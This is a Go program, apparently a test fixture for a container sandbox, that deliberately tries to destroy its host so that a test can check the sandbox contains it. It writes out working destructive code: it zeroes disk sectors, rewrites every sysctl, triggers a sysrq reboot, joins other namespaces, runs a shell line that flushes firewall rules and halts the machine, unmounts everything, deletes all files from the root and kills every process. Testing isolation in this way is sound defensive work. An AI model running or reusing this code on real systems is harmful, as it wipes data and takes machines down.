//go:build linux

// The worst answer: it destroys everything it can reach, by every way its author could
// think of, and goes on when one is barred. It is built and run by TestTheWorstAnswerHurtsNothing
// in the fake host, and nowhere else.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if os.Getenv("MINICONTAINER_JUDGE") == "" {
		fmt.Println("not outside the fake host")
		return
	}
	os.MkdirAll("/tmp/x", 0o755)
	freshKernelFiles()
	sysctls("/proc/sys")
	sysctls("/tmp/x/proc/sys")
	disks()
	calls()
	otherNamespaces()
	unmountAll()
	wipe("/")
	wipe("/proc/1/root")
	wipe("/tmp/x")
	unix.Kill(-1, unix.SIGKILL)
	unix.Kill(1, unix.SIGKILL)
	fmt.Println("done")
}

// freshKernelFiles mounts what the fake host does not show, or shows read-only.
func freshKernelFiles() {
	for _, m := range [][3]string{
		{"proc", "proc", ""}, {"sysfs", "sysfs", ""}, {"cgroup2", "cgroup2", ""}, {"cgroup", "cgroup", "memory"},
		{"devtmpfs", "devtmpfs", ""}, {"debugfs", "debugfs", ""}, {"securityfs", "securityfs", ""}, {"bpf", "bpf", ""},
	} {
		dir := "/tmp/x/" + m[0]
		os.MkdirAll(dir, 0o755)
		unix.Mount(m[1], dir, m[1], 0, m[2])
	}
	unix.Mount("", "/", "", unix.MS_REMOUNT|unix.MS_BIND, "")
	for _, dir := range []string{"/usr", "/bin", "/lib", "/sys", "/etc/alternatives"} {
		unix.Mount("", dir, "", unix.MS_REMOUNT|unix.MS_BIND, "")
	}
	os.WriteFile("/tmp/x/proc/sysrq-trigger", []byte("b"), 0)
	os.WriteFile("/proc/sysrq-trigger", []byte("b"), 0)
}

// sysctls writes a value that is harmless but different into every file.
func sysctls(dir string) {
	filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() && !strings.HasPrefix(path, dir+"/net/") {
			os.WriteFile(path, []byte("13"), 0)
		}
		return nil
	})
}

// disks makes a node for each block device there can be, and overwrites its beginning.
func disks() {
	for _, major := range []uint32{3, 7, 8, 9, 43, 202, 252, 253, 254, 259} {
		for minor := range uint32(8) {
			path := fmt.Sprintf("/tmp/x/disk-%d-%d", major, minor)
			unix.Mknod(path, unix.S_IFBLK|0o666, int(unix.Mkdev(major, minor)))
			if f, err := os.OpenFile(path, os.O_WRONLY, 0); err == nil {
				fmt.Println("opened", path)
				f.Write(make([]byte, 512))
				f.Close()
			}
		}
	}
	for _, minor := range []uint32{1, 2, 4} { // /dev/mem, /dev/kmem, /dev/port
		unix.Mknod("/tmp/x/mem", unix.S_IFCHR|0o666, int(unix.Mkdev(1, minor)))
		if f, err := os.OpenFile("/tmp/x/mem", os.O_RDWR, 0); err == nil {
			fmt.Println("opened memory device", minor)
			f.Close()
		}
		os.Remove("/tmp/x/mem")
	}
}

// calls are system calls that change the machine.
func calls() {
	unix.Sethostname([]byte("destroyed"))
	unix.Setdomainname([]byte("destroyed"))
	past := unix.NsecToTimeval(0)
	unix.Settimeofday(&past)
	unix.Adjtimex(&unix.Timex{Modes: 1, Offset: 1})
	unix.Syscall(unix.SYS_SWAPOFF, 0, 0, 0)
	unix.Reboot(unix.LINUX_REBOOT_CMD_CAD_ON)
	unix.DeleteModule("overlay", 0)
	unix.Setrlimit(unix.RLIMIT_NPROC, &unix.Rlimit{Cur: unix.RLIM_INFINITY, Max: unix.RLIM_INFINITY})
	unix.Setpriority(unix.PRIO_PROCESS, 0, -20)
	unix.Acct("/tmp/x/acct")
	os.WriteFile("/proc/self/oom_score_adj", []byte("-1000"), 0)
}

// otherNamespaces joins whatever it finds and wipes there, too.
func otherNamespaces() {
	paths, _ := filepath.Glob("/proc/[0-9]*/ns/*")
	more, _ := filepath.Glob("/tmp/x/proc/[0-9]*/ns/*")
	for _, path := range append(paths, more...) {
		if fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
			unix.Setns(fd, 0)
			unix.Close(fd)
		}
	}
	groups, _ := filepath.Glob("/sys/fs/cgroup/*/cgroup.procs")
	own, _ := filepath.Glob("/tmp/x/cgroup*/cgroup.procs")
	for _, procs := range append(groups, own...) {
		os.WriteFile(procs, []byte("0"), 0)
	}
	exec.Command("sh", "-c", "ip link set lo down; nft flush ruleset; iptables -F; losetup -D; swapoff -a; halt -f").Run()
}

func unmountAll() {
	for range 3 {
		text, _ := os.ReadFile("/proc/self/mountinfo")
		for _, line := range strings.Split(string(text), "\n") {
			if fields := strings.Fields(line); len(fields) > 4 && fields[4] != "/proc" {
				unix.Unmount(fields[4], unix.MNT_DETACH)
			}
		}
	}
}

// wipe deletes everything below a directory, for some seconds at most.
func wipe(dir string) {
	deadline := time.Now().Add(4 * time.Second)
	filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if time.Now().After(deadline) {
			return filepath.SkipAll
		}
		if err == nil && !d.IsDir() {
			if f, err := os.OpenFile(path, os.O_WRONLY|os.O_TRUNC|syscall.O_NONBLOCK, 0); err == nil {
				f.Close()
			}
			os.Remove(path)
		}
		return nil
	})
	os.RemoveAll(dir)
}
